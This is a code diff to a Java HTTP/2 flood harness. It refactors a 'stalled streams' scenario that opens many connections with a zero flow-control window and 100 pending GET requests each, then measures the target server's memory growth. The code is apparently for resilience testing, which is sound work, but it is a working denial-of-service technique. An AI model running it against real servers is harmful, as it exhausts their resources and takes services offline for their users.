@@ -22,6 +22,7 @@ final class Http2Floods {
     private static final int CRUMBS = 2000;
     private static final int BOMB = 4000;
     private static final int STALLED = 100;
+    private static final int FIRST = 50;
     private static final int STALL_MILLIS = 60_000;
 
     private Http2Floods() {}
@@ -143,25 +144,13 @@ final class Http2Floods {
     /// Requests whose answers have no window to come through.
     private static Result stalled(Victim victim, int scale)
             throws IOException, InterruptedException {
-        byte[] noWindow = {0, 4, 0, 0, 0, 0};
-        long before = victim.residentBytes();
-        int count = scale * 10;
         List<Socket> clients = new ArrayList<>();
         try {
-            for (int i = 0; i < count; i++) {
-                Http2Frames frames = new Http2Frames().preface(noWindow);
-                for (int s = 0; s < STALLED; s++) {
-                    frames.frame(
-                            Http2Frames.HEADERS,
-                            END_HEADERS | END_STREAM,
-                            stream(s),
-                            Http2Frames.GET);
-                }
-                Socket client = victim.connect().socket();
-                clients.add(client);
-                client.setSoTimeout(STALL_MILLIS);
-                client.getOutputStream().write(frames.take());
-            }
+            stall(victim, FIRST, clients); // these pay for what the attack runs
+            TimeUnit.SECONDS.sleep(1);
+            long before = victim.residentBytes();
+            int count = scale * 10;
+            stall(victim, count, clients);
             long begin = System.nanoTime();
             TimeUnit.SECONDS.sleep(3);
             long each = Math.max(0, victim.residentBytes() - before) / count;
@@ -182,6 +171,22 @@ final class Http2Floods {
             for (Socket client : clients) {
                 client.close();
             }
+        }
+    }
+
+    /// Adds connections with [#STALLED] requests each.
+    private static void stall(Victim victim, int count, List<Socket> clients) throws IOException {
+        byte[] noWindow = {0, 4, 0, 0, 0, 0};
+        for (int i = 0; i < count; i++) {
+            Http2Frames frames = new Http2Frames().preface(noWindow);
+            for (int s = 0; s < STALLED; s++) {
+                frames.frame(
+                        Http2Frames.HEADERS, END_HEADERS | END_STREAM, stream(s), Http2Frames.GET);
+            }
+            Socket client = victim.connect().socket();
+            clients.add(client);
+            client.setSoTimeout(STALL_MILLIS);
+            client.getOutputStream().write(frames.take());
         }
     }
 
